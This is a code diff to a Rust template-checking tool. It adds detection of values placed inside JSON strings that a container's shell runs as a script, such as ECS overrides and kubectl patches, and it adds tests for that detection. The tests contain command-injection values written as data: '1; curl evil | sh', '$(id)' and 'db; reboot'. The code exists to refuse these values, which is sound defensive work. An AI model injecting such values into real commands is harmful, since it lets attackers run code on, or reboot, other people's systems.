@@ -537,11 +537,81 @@ fn json(before: &str) -> Option<FileArgument> {
     if escaped {
         return None; // (After a `\`: the value's first character is escaped; data.)
     }
-    if in_string {
+    if in_string && json_shell_script(doc) {
+        shaped(JSON_SCRIPT_CHARS, JSON_SCRIPT)
+    } else if in_string {
         found(&[], "\"\\", JSON_STRING)
     } else {
         shaped("\"',:{}[]#\\\n\r", JSON_BARE)
     }
+}
+
+/// Whether `doc` ends inside a string of a JSON array that a shell runs as its script: an
+/// array after whose `"sh", "-c"` it stands (`"command": ["sh", "-c", "…"]` of a container,
+/// an ECS task's `--overrides`, `kubectl patch -p`), or any array once one has run a shell
+/// that way (Kubernetes' `"command": ["sh", "-c"], "args": ["…"]`) (audit 29 H-16).
+fn json_shell_script(doc: &str) -> bool {
+    // The strings of each open array (`None` for another kind of element).
+    let mut arrays: Vec<Vec<Option<String>>> = Vec::new();
+    let mut open: Vec<char> = Vec::new();
+    let mut string: Option<String> = None;
+    let mut escaped = false;
+    let mut shell_c = false;
+    let runs_shell = |elements: &[Option<String>]| {
+        elements.windows(2).any(|pair| match pair {
+            [Some(shell), Some(flag)] => {
+                crate::shell::programs::SHELLS.contains(&base(shell))
+                    && flag.len() > 1
+                    && flag.starts_with('-')
+                    && flag.ends_with('c')
+                    && flag[1..].bytes().all(|b| b.is_ascii_lowercase())
+            }
+            _ => false,
+        })
+    };
+    for c in doc.chars() {
+        if let Some(text) = string.as_mut() {
+            if escaped {
+                escaped = false;
+                text.push(c);
+            } else if c == '\\' {
+                escaped = true;
+            } else if c == '"' {
+                let done = string.take();
+                if open.last() == Some(&'[')
+                    && let Some(elements) = arrays.last_mut()
+                {
+                    elements.push(done);
+                    shell_c |= runs_shell(elements);
+                }
+            } else {
+                text.push(c);
+            }
+            continue;
+        }
+        match c {
+            '"' => string = Some(String::new()),
+            '[' | '{' => {
+                if open.last() == Some(&'[')
+                    && let Some(elements) = arrays.last_mut()
+                {
+                    elements.push(None);
+                }
+                if c == '[' {
+                    arrays.push(Vec::new());
+                }
+                open.push(c);
+            }
+            ']' | '}' => {
+                let closed = open.pop();
+                if closed == Some('[') {
+                    arrays.pop();
+                }
+            }
+            _ => {}
+        }
+    }
+    string.is_some() && open.last() == Some(&'[') && shell_c
 }
 
 /// A document that reads as YAML: a Kubernetes manifest, a `---` start.
@@ -829,6 +899,12 @@ fn under_folder(before: &str) -> Option<FileArgument> {
     })
 }
 
+/// What a shell reads as more than one plain word (besides letters, digits and `_ . / : @ ,
+/// + = % -`), and what ends a JSON string.
+const JSON_SCRIPT_CHARS: &str = " \t\n\r\"'\\$`;&|<>()*?[]{}#~!^";
+
+const JSON_SCRIPT: &str = "it stands in a JSON string that a container's shell runs as its script (`\"command\": [\"sh\", \"-c\", \"…\"]`), where runbook cannot quote it for that shell through the JSON: only letters, digits and `_ . / : @ , + = % -` are data there (give the value to the container as an environment variable, `\"env\": [{\"name\": \"V\", \"value\": \"…\"}]`, and write `\"$V\"` in the script)";
+
 const JSON_STRING: &str = "it stands in a JSON string, where `\"` would end the string (the rest would be more fields of the document) and `\\` escapes what follows (build the JSON with `jq -n --arg v \"{{ … }}\" '{key: $v}'`, which quotes the value)";
 const JSON_BARE: &str = "it stands between the tokens of a JSON document, where only a number or a word (`true`, `null`) is data: quotes, `,`, `:` and brackets would add fields (put the value in a JSON string, or build the JSON with `jq -n --arg`)";
 const YAML_QUOTED: &str =
@@ -918,9 +994,38 @@ mod tests {
                 "hi\",\"admin\":true,\"x\":\"",
                 "disk full on web-1",
             ),
+            // Audit 29 H-16: a JSON string that a container's shell runs as its script.
+            (
+                "aws ecs run-task --cluster c --task-definition t --overrides '{\"containerOverrides\":[{\"name\":\"app\",\"command\":[\"sh\",\"-c\",\"bin/migrate {{ v }}\"]}]}'",
+                "1; curl evil | sh",
+                "2026_12_07_add_index",
+            ),
+            (
+                "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"/bin/bash\",\"-lc\",\"echo {{ v }}\"]}]}}}}'",
+                "$(id)",
+                "v1.2.3",
+            ),
+            (
+                "kubectl run dbg --image=busybox --overrides='{\"spec\":{\"containers\":[{\"name\":\"d\",\"command\":[\"sh\",\"-c\"],\"args\":[\"ping -c1 {{ v }}\"]}]}}'",
+                "db; reboot",
+                "db-1.internal",
+            ),
         ] {
             assert!(refusal(script, bad).is_some(), "{script} with {bad:?}");
             assert_eq!(refusal(script, good), None, "{script} with {good:?}");
+        }
+    }
+
+    /// Strings beside a shell's script stay JSON strings (any text but `"` and `\`).
+    #[test]
+    fn json_strings_that_no_shell_runs_keep_their_text() {
+        for script in [
+            "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"sh\",\"-c\",\"bin/app\"],\"env\":[{\"name\":\"NOTE\",\"value\":\"{{ v }}\"}]}]}}}}'",
+            "curl -d '{\"tags\":[\"sh\",\"{{ v }}\"]}' https://x",
+            "curl -d '{\"argv\":[\"ls\",\"-c\",\"{{ v }}\"]}' https://x",
+        ] {
+            assert_eq!(refusal(script, "it's down; see #42 $(x)"), None, "{script}");
+            assert!(refusal(script, "a\"b").is_some(), "{script}");
         }
     }
 
